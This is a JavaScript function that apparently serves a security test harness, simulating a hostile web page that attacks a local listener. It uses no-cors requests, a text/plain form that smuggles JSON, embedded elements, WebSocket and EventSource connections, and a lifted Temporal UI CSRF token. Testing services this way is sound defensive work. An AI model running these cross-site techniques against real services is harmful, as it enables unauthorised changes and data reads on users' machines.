/**
 * What a hostile page does to one listener, in a real browser. Reports everything that came of it; what it sends without
 * being able to read the answer is seen at the other side, or not at all.
 *
 * @param {{ base: string, requests: { path: string, body?: string }[], tokens: string[], patienceMs: number }} target
 * @returns {Promise<{ how: string, path: string, status?: number, text?: string }[]>}
 */
// biome-ignore lint/correctness/noUnusedVariables: called by the page
async function attack({ base, requests, tokens, patienceMs }) {
  const got = []
  const signal = () => AbortSignal.timeout(patienceMs)
  const late = () => new Promise((resolve) => setTimeout(resolve, patienceMs))

  /** Without a preflight, and so whether the other side likes it or not. */
  const simple = (path, init) => fetch(base + path, { mode: 'no-cors', signal: signal(), ...init }).catch(() => {})
  const read = async (how, path, init) => {
    const answer = await fetch(base + path, { signal: signal(), ...init }).catch(() => null)
    if (answer === null) return
    got.push({ how, path, status: answer.status, text: (await answer.text().catch(() => '')).slice(0, 20_000) })
  }
  const form = async (path, body) => {
    const frame = document.body.appendChild(
      Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` }),
    )
    const sent = document.createElement('form')
    Object.assign(sent, { method: 'post', action: base + path, enctype: 'text/plain', target: frame.name })
    // Sent as `{"a":1,"x":"=\r\n"}`: the text is JSON, whatever the browser puts between name and value.
    const name = `${body.slice(0, -1)}${body === '{}' ? '' : ','}"x":"`
    sent.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
    document.body.append(sent)
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
    sent.submit()
    await Promise.race([loaded, late()])
    // Where a frame can be read, it is of the page's own origin.
    const text = frame.contentDocument?.body?.textContent
    if (text) got.push({ how: 'frame', path, status: 0, text })
    frame.remove()
  }
  const embedded = (tag, path) =>
    Promise.race([
      late(),
      new Promise((resolve) => {
        const element = Object.assign(document.createElement(tag), {
          onload: resolve,
          onerror: resolve,
          src: base + path,
        })
        document.body.append(element)
      }),
    ])
  const socket = (path) =>
    Promise.race([
      late(),
      new Promise((resolve) => {
        const opened = new WebSocket(base.replace('http', 'ws') + path)
        opened.onopen = () => got.push({ how: 'WebSocket', path })
        opened.onerror = resolve
      }),
    ])
  const events = (path) =>
    Promise.race([
      late(),
      new Promise((resolve) => {
        const source = new EventSource(base + path)
        source.onopen = () => got.push({ how: 'EventSource', path })
        source.onerror = () => resolve(source.close())
      }),
    ])
  /** Temporal's UI hands out a token to whoever asks, and takes changes from whoever has it. */
  const withCsrf = async (path, body) => {
    await fetch(`${base}/`, { signal: signal() }).catch(() => {})
    const csrf = /(?:^|; )_csrf=([^;]+)/.exec(document.cookie)?.[1]
    if (csrf === undefined) return
    await read('with a CSRF token', path, { method: 'POST', body, headers: { 'x-csrf-token': csrf } })
  }

  for (const { path, body } of requests) {
    if (body === undefined) {
      const ways = [
        read('GET', path),
        simple(path),
        embedded('img', path),
        embedded('script', path),
        embedded('iframe', path),
      ]
      for (const token of tokens)
        ways.push(read('GET with the token', path, { headers: { authorization: `Bearer ${token}` } }))
      await Promise.all(ways)
      continue
    }
    navigator.sendBeacon(base + path, body)
    const ways = [
      simple(path, { method: 'POST', body }),
      simple(path, { method: 'POST', body: new Blob([body]) }),
      form(path, body),
      read('POST', path, { method: 'POST', body, headers: { 'content-type': 'application/json' } }),
      withCsrf(path, body),
    ]
    for (const token of tokens) {
      const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
      ways.push(read('POST with the token', path, { method: 'POST', body, headers }))
    }
    await Promise.all(ways)
  }
  await Promise.all([socket('/'), socket('/api/coppice/v1/events'), events('/'), events('/api/coppice/v1/events')])
  return got
}
